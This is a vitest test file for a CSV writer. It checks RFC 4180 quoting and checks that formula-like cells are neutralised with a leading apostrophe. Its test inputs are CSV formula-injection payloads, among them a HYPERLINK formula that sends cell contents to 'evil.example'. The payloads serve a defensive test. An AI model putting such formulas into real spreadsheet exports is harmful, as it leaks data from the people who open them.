import { expect, test } from 'vitest';
import { csvOf } from './csv.ts';

test('RFC 4180: CRLF after each row, quotes where needed', () => {
  expect(csvOf([['Label', 'State'], ['Acme, "Ltd"', 'live'], ['two\nlines', ''], [' padded ', 'ü']])).toBe('Label,State\r\n"Acme, ""Ltd""",live\r\n"two\nlines",\r\n" padded ",ü\r\n');
});

test.each(['=1+1', '+1', '-1', '@SUM(A1)', '\t=1', '\r=1', '  =1', '=HYPERLINK("https://evil.example?"&A1)', '\n=cmd'])('a spreadsheet does not run %j', (text) => {
  const [cell] = csvOf([[text]]).split('\r\n', 1);
  expect(cell?.replace(/^"/, '')).toMatch(/^'/);
});

test('what only looks a bit like a formula stays as it is', () => {
  expect(csvOf([['a=b', '5', '2026-11-23T12:00:00.000Z', 'mail@example.com', '']])).toBe('a=b,5,2026-11-23T12:00:00.000Z,mail@example.com,\r\n');
});
